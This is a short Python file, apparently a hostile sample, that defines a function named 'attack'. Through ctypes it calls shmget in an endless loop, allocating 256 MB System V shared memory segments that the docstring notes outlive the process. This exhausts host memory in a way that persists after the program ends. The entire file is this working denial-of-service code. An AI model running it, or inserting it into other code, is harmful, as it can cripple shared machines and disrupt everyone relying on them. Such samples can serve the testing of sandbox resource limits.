"""Keeps memory in System V segments, which outlive processes."""

import ctypes


def attack(x):
    libc = ctypes.CDLL(None)
    while True:
        assert libc.shmget(0, 1 << 28, 0o1600) >= 0
